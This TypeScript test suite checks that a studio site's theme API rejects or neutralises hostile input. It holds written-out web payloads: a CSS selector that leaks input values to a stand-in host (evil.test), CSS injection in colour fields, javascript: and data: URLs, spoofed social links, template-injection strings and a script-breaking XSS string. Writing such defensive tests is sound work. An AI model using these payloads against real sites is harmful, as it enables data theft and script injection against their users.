import { expect } from 'vitest'
import { forgetCatalogue, getCatalogue } from '../../../tenants/studio/get-catalogue.ts'
import { LOTUS } from '../../../worker/testing/make-site.ts'
import { contrast } from '../../../web/theme/contrast.ts'
import { makePalette } from '../../../web/theme/palette.ts'
import { api, type Attack } from './attack.ts'
import { addLogo } from './uploads.ts'

const look = (json: unknown) => api('PATCH /theme', { as: 'owner', json })

/**
 * Reliability.md 3.7: what a studio's site looks like and says. Its own pages, in Markdown, are in
 * `web/lib/render-markdown.server.test.ts` and, as they are shown (UP-10), in `tests/system/answers.test.ts`.
 */
export const looks: readonly Attack[] = [
  {
    id: 'UP-06',
    title: 'pictures that are not there, another studio’s, or made for something else, shown as one’s own',
    play: async (world) => {
      const { id } = await addLogo(world)
      await world.refused(
        ['upl_unknown', '../../x', `${id}/drawing.svg`]
          .map((one) => look({ logo_id: one }))
          .concat(look({ hero_photo_id: id })),
        '422 invalid_input',
      )
      const shot = look({ logo_id: id })
      await world.refused(
        [{ ...shot, as: 'stranger', host: LOTUS, token: world.people.tokens.stranger ?? '' }],
        '422 invalid_input',
      )
    },
  },
  {
    id: 'UP-07',
    title: 'style sheets in whatever becomes one, and fields for them that there are not',
    play: async ({ refused, send: ask }) => {
      const steal = 'input[value^=a]{background:url(https://evil.test/a)}'
      const before = await ask(api('GET /theme', { as: 'owner' }))
      const values = [
        'red',
        '#12345',
        `#fff;${steal}`,
        '#ffffff}body{display:none',
        'var(--x)',
        'url(https://evil.test)',
        '\\23 fff',
        'expression(1)',
        '#ff5a1f/**/',
        '＃ff5a1f',
      ]
      await refused(
        [
          ...values.flatMap((value) => [look({ brand_color: value }), look({ accent_color: value })]),
          ...['mood', 'type_pair', 'corners', 'hero', 'density', 'pattern'].map((field) =>
            look({ [field]: `soft}${steal}` }),
          ),
          look({ sections: [steal] }),
          api('PATCH /services/svc_training', { as: 'owner', json: { color: `red;${steal}` } }),
        ],
        '422 invalid_input',
      )
      const said = await ask(
        look({ css: steal, custom_css: steal, style: steal, font_face: steal, theme: { css: steal } }),
      )
      expect(said.status).toBe(200)
      const after = await ask(api('GET /theme', { as: 'owner' }))
      expect({ ...(JSON.parse(after.text) as object), edition: 0 }).toEqual({
        ...(JSON.parse(before.text) as object),
        edition: 0,
      })
    },
  },
  {
    id: 'UP-08',
    title: 'links to networks and maps that run, are no network’s, or hide where they lead',
    play: async ({ refused }) => {
      const urls = [
        'javascript:alert(1)',
        'JaVaScRiPt:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'http://instagram.com/iron',
        'https://instagram.com.evil.test/iron',
        'https://instagram.com@evil.test/',
        'https://x:y@instagram.com/iron',
        'https://instagram.com:8443/',
        'https://evil.test/?instagram.com',
        '//evil.test',
        'vbscript:x',
        '',
      ]
      await refused(
        urls.map((url) => look({ social_links: [{ kind: 'instagram', url }] })),
        '422 invalid_input',
      )
      const maps = [
        'javascript:alert(1)',
        'data:text/html,x',
        'http://maps.test/',
        'geo:0,0',
        '//evil.test',
        'https:',
        ' javascript:alert(1)',
        'java\nscript:alert(1)',
      ]
      await refused(
        maps.map((map_url) => api('PATCH /locations/loc_sofia', { as: 'owner', json: { map_url } })),
        '422 invalid_input',
      )
    },
  },
  {
    id: 'UP-09',
    title: 'templates in what a studio says: they are words',
    play: async ({ send: ask, refused }) => {
      const texts = [
        `{{constructor.constructor('alert(1)')()}}`,
        '{{#each this}}x{{/each}}',
        '${7*7}',
        '<%= 7*7 %>',
        '{{unknown}}',
        '{0}',
        '%s%n',
        '</script><script>alert(1)</script>',
      ]
      for (const text of texts) {
        const { status, text: said } = await ask(
          look({ tagline: { en: text }, about: { en: text }, hero_title: { en: text } }),
        )
        expect([status, JSON.parse(said)]).toEqual([
          200,
          expect.objectContaining({ tagline: { en: text }, about: { en: text }, hero_title: { en: text } }),
        ])
      }
      await refused(
        [look({ about: { en: '{{#each}}'.repeat(5_000) } }), look({ tagline: { xx: 'x' } })],
        '422 invalid_input',
      )
      await refused([look({ about: { en: '{{#each}}'.repeat(20_000) } })], '413 payload_too_large')
    },
  },
  {
    id: 'UP-15',
    title: 'white on white, and every colour on itself: what is to be read can be',
    play: async ({ send: ask, iron }) => {
      for (const color of ['#ffffff', '#000000', '#fffffe', '#7f7f7f', '#ffff00', '#00ff00']) {
        for (const mood of ['white', 'paper', 'dark'] as const) {
          expect((await ask(look({ brand_color: color, accent_color: color, mood }))).status).toBe(200)
          forgetCatalogue(iron)
          const { theme } = (await getCatalogue(iron)).studio
          expect(theme).toMatchObject({ brandColor: color, mood })
          for (const ground of ['light', 'dark'] as const) {
            const { brand, accent, surface, ink, inkSoft } = makePalette(theme, ground)
            const read = [brand, accent].flatMap(({ fill, hover, on }) => [
              contrast(on, fill),
              contrast(on, hover),
            ])
            const edges = [brand, accent].map(({ edge }) => contrast(edge, surface))
            expect(
              Math.min(...read, contrast(ink, surface), contrast(inkSoft, surface)),
            ).toBeGreaterThanOrEqual(4.5)
            expect(Math.min(...edges)).toBeGreaterThanOrEqual(3)
          }
        }
      }
    },
  },
]
